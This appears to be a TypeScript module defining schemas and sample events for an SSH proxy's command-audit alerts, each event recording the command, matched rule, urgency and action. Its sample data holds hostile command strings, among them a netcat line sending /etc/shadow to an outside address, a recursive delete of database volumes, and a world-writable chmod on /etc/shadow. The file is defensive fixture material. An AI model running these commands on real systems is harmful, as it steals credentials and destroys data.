import { z } from "zod";
import { code, device, httpUrl, session, text, timestamp } from "./blocks";
import { devices, pamConsole, session as sampleSession } from "./sample-data";
import type { CategorySamples, CategorySchemas } from "./types";

// An audited command typed in an SSH proxy session: who, where, which rule matched, and what the
// proxy did about it.
const commandAudit = z.object({
  session,
  device,
  command: code(4000),
  executedAt: timestamp,
  rule: z.object({ name: text(120), urgency: z.enum(["low", "medium", "high"]) }),
  actionTaken: z.enum(["allowed", "blocked", "blocked-and-interrupted"]),
  sessionUrl: httpUrl.optional(),
});

export const commandAuditSchemas = {
  "command-audit.allow": commandAudit,
  "command-audit.block": commandAudit,
  "command-audit.block-and-interrupt": commandAudit,
  "command-audit.high-urgency": commandAudit,
  "command-audit.low-urgency": commandAudit,
  "command-audit.medium-urgency": commandAudit,
} satisfies CategorySchemas<"command-audit">;

function sample(
  command: string,
  rule: string,
  urgency: "low" | "medium" | "high",
  actionTaken: "allowed" | "blocked" | "blocked-and-interrupted",
) {
  return {
    session: sampleSession,
    device: devices.db,
    command,
    executedAt: "2026-11-24T13:52:44Z",
    rule: { name: rule, urgency },
    actionTaken,
    sessionUrl: `${pamConsole}/sessions/${sampleSession.id}`,
  };
}

export const commandAuditSamples: CategorySamples<typeof commandAuditSchemas> = {
  "command-audit.allow": sample("systemctl restart oracle-ohasd", "Service restarts", "low", "allowed"),
  "command-audit.block": sample(
    "chmod 777 /etc/shadow",
    "Permission changes on system files",
    "high",
    "blocked",
  ),
  "command-audit.block-and-interrupt": sample(
    "rm -rf /u01/app/oracle/oradata --no-preserve-root",
    "Destructive commands on database volumes",
    "high",
    "blocked-and-interrupted",
  ),
  "command-audit.high-urgency": sample(
    "cat /etc/shadow | nc 203.0.113.77 4444",
    "Exfiltration patterns",
    "high",
    "allowed",
  ),
  "command-audit.low-urgency": sample("tail -n 200 /var/log/messages", "Log reading", "low", "allowed"),
  "command-audit.medium-urgency": sample("sudo -i", "Privilege escalation", "medium", "allowed"),
};
